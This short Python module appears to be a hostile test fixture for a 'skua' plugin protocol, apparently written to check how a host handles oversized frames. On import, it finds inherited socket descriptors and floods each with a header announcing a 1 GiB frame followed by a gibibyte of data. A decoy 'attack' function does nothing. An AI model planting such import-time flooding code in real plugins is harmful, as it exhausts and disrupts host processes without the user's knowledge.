"""A frame of a gibibyte is announced, and comes as fast as it can."""

import os
import stat
import struct
import sys

if "skua_native" in sys.modules:
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                os.write(int(name), struct.pack("<4sHHI", b"SKUA", 1, 1, 1 << 30))
                for _ in range(1024):
                    os.write(int(name), b"x" * (1 << 20))
        except OSError:
            pass


def attack(a: int = 0) -> int:
    return a
